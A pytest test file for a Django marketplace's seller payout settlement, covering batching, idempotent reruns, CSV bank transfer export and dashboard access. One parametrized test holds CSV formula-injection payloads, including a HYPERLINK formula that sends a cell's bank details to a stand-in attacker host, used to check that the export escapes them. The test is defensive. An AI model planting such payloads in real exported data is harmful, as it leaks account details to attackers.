"""Settlement: balances due gathered into a bank transfer batch, once."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.test import Client

from marketplace.payments.models import (
    LedgerEntry,
    Payout,
    PayoutBatch,
    SellerPayoutAccount,
)
from marketplace.payments.services import (
    ledger_append,
    payout_batch_csv,
    payout_batch_mark_paid,
    payouts_settle,
    seller_balance,
)
from tests.integration.checkout.shop import make_seller
from tests.mfa import force_login_verified

pytestmark = pytest.mark.django_db

VALID_RIB = "011519000001205000534921"


def _seller_with_balance(name, amount, rib=VALID_RIB):
    seller = make_seller(name)
    ledger_append(
        seller=seller, kind="sale", amount=Decimal(amount), key=f"test:{seller.pk}"
    )
    if rib is not None:
        SellerPayoutAccount.objects.create(seller=seller, holder_name=name, rib=rib)
    return seller


def test_a_settlement_pays_each_balance_and_running_it_again_pays_nobody_twice():
    potter = _seller_with_balance("Poterie Fassi", "330.00")
    weaver = _seller_with_balance("Tapis Azilal", "1125.50")

    batch = payouts_settle()
    second = payouts_settle()

    assert second is None
    assert PayoutBatch.objects.count() == 1
    payouts = {p.seller: p.amount for p in batch.payouts.all()}
    assert payouts == {potter: Decimal("330.00"), weaver: Decimal("1125.50")}
    assert seller_balance(seller=potter) == Decimal("0.00")
    assert LedgerEntry.objects.filter(kind="payout").count() == 2


def test_only_new_credits_go_into_the_next_batch():
    potter = _seller_with_balance("Poterie Fassi", "330.00")
    payouts_settle()
    ledger_append(seller=potter, kind="sale", amount=Decimal("70"), key="test:more")

    batch = payouts_settle()

    assert batch.payouts.get().amount == Decimal("70.00")


def test_sellers_without_a_valid_rib_or_a_positive_balance_are_not_paid():
    _seller_with_balance("Sans RIB", "100.00", rib=None)
    _seller_with_balance("RIB faux", "100.00", rib="011519000001205000534922")
    _seller_with_balance("En négatif", "-20.00")

    assert payouts_settle() is None
    assert not Payout.objects.exists()


def test_the_transfer_file_lists_each_seller_rib_and_amount():
    _seller_with_balance("Poterie Fassi", "330.00")
    batch = payouts_settle()

    rows = list(csv.reader(io.StringIO(payout_batch_csv(batch=batch)), delimiter=";"))

    assert rows[0] == ["beneficiaire", "rib", "montant", "devise", "reference"]
    assert rows[1][:4] == ["Poterie Fassi", VALID_RIB, "330.00", "MAD"]


@pytest.mark.parametrize(
    "holder",
    [
        '=HYPERLINK("https://evil.example/?x="&B2;"Cliquez")',
        "+212600000000",
        "-1+1",
        "@SUM(1;1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_holder_name_a_spreadsheet_would_run_is_written_as_text(holder):
    seller = _seller_with_balance("Poterie Fassi", "330.00")
    SellerPayoutAccount.objects.filter(seller=seller).update(holder_name=holder)
    batch = payouts_settle()

    rows = list(csv.reader(io.StringIO(payout_batch_csv(batch=batch)), delimiter=";"))

    assert rows[1][0] == "'" + holder
    assert rows[1][1:4] == [VALID_RIB, "330.00", "MAD"]


def test_a_batch_is_marked_paid_once_the_bank_confirms():
    _seller_with_balance("Poterie Fassi", "330.00")
    batch = payouts_settle()

    assert payout_batch_mark_paid(batch=batch) is True
    assert payout_batch_mark_paid(batch=batch) is False
    batch.refresh_from_db()
    assert batch.status == PayoutBatch.Status.PAID and batch.paid_at


def test_the_settle_payouts_command_writes_the_file_and_is_safe_to_rerun(tmp_path):
    _seller_with_balance("Poterie Fassi", "330.00")
    out = io.StringIO()
    target = tmp_path / "batch.csv"

    call_command("settle_payouts", csv=target, stdout=out)
    call_command("settle_payouts", stdout=out)

    assert "1 sellers, 330.00 MAD" in out.getvalue()
    assert "No seller is due a payout." in out.getvalue()
    assert VALID_RIB in target.read_text()
    assert PayoutBatch.objects.count() == 1


def test_staff_run_a_settlement_and_download_the_file_from_the_dashboard():
    from django.contrib.auth import get_user_model

    _seller_with_balance("Poterie Fassi", "330.00")
    staff = get_user_model().objects.create_user(
        "staff", "staff@example.ma", "pw-staff-123!", is_staff=True
    )
    client = Client()
    force_login_verified(client, staff)

    client.post("/fr/dashboard/payouts/")
    client.post("/fr/dashboard/payouts/")
    batch = PayoutBatch.objects.get()
    listing = client.get("/fr/dashboard/payouts/")
    file = client.get(f"/fr/dashboard/payouts/{batch.pk}/csv/")
    client.post(f"/fr/dashboard/payouts/{batch.pk}/paid/")

    assert listing.status_code == 200
    assert file["Content-Type"].startswith("text/csv")
    assert VALID_RIB in file.content.decode()
    batch.refresh_from_db()
    assert batch.status == PayoutBatch.Status.PAID


def test_a_seller_cannot_run_a_settlement_nor_see_batches():
    seller = _seller_with_balance("Poterie Fassi", "330.00")
    client = Client()
    client.force_login(seller.owner)

    assert client.post("/fr/dashboard/payouts/").status_code == 302  # to login
    assert not PayoutBatch.objects.exists()


def test_a_seller_sees_its_balance_entries_and_payouts():
    seller = _seller_with_balance("Poterie Fassi", "330.00")
    other = _seller_with_balance("Tapis Azilal", "999.00")
    payouts_settle()
    ledger_append(seller=seller, kind="sale", amount=Decimal("12.5"), key="t:x")
    client = Client()
    client.force_login(seller.owner)

    page = client.get("/fr/seller/payouts/")

    assert page.status_code == 200
    (summary,) = page.context["summaries"]
    assert summary.seller == seller
    assert summary.balance == Decimal("12.50")
    assert [p.amount for p in summary.payouts] == [Decimal("330.00")]
    assert other.name not in page.content.decode()
